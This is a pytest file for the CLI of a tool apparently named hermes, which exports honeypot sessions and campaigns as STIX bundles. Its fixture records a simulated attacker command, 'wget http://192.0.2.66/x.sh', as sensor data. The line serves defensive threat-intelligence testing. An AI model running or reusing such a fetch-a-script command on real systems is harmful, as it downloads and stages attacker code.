import json
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
import stix2  # type: ignore[import-untyped]
from typer.testing import CliRunner, Result

from hermes.cli import app
from tests.unit.analysis.sensor import left_by
from tests.unit.analysis.world import artifact, attack

Run = Callable[..., Result]


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("sensor")
    left_by(
        directory,
        *(it for name in ("first", "second") for it in attack(name, "wget http://192.0.2.66/x.sh", more=[artifact("a" * 64)])),
    )
    return directory


@pytest.fixture
def run(data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HERMES_DATA_DIR", str(data_dir))
    return lambda *arguments: CliRunner().invoke(app, list(arguments))


def test_a_session_is_printed_or_written(run: Run, tmp_path: Path) -> None:
    printed = run("stix", "session", "first")
    assert printed.exit_code == 0, printed.output
    stix2.parse(printed.stdout, allow_custom=False)
    assert run("stix", "session", "fir", "-o", "bundle.json").exit_code == 0
    assert (tmp_path / "bundle.json").read_text() == printed.stdout
    assert stat.S_IMODE((tmp_path / "bundle.json").stat().st_mode) == 0o600


def test_a_campaign_has_all_its_sessions(run: Run) -> None:
    (campaign,) = json.loads(run("campaigns", "list", "--json").stdout)
    result = run("stix", "campaign", campaign["id"])
    assert result.exit_code == 0, result.output
    kinds = [it["type"] for it in json.loads(result.stdout)["objects"]]
    assert kinds.count("campaign") == 1
    assert kinds.count("observed-data") == 2
    assert run("stix", "campaign", campaign["id"]).stdout == result.stdout


def test_a_file_that_is_there_is_not_written_over(run: Run, tmp_path: Path) -> None:
    (tmp_path / "there").write_text("mine")
    (tmp_path / "link").symlink_to("there")
    for name in ("there", "link"):
        result = run("stix", "session", "first", "-o", name)
        assert (result.exit_code, result.stderr) == (1, f"hermes: cannot write {name}: File exists\n")
    assert (tmp_path / "there").read_text() == "mine"


def test_what_is_not_there_is_said_and_leaves_no_file(run: Run, tmp_path: Path) -> None:
    result = run("stix", "session", "nobody", "-o", "new.json")
    assert (result.exit_code, result.stderr) == (1, "hermes: no session with an id like 'nobody'\n")
    assert not (tmp_path / "new.json").exists()
